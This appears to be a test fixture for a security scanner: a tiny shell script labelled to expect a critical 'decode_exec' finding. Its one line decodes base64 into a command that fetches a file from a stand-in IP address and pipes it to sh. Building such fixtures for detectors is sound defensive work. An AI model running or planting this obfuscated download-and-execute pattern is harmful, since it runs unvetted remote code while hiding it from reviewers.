# expect: shell.decode_exec critical
# path: scripts/e.sh
#!/bin/sh
echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 --decode | bash
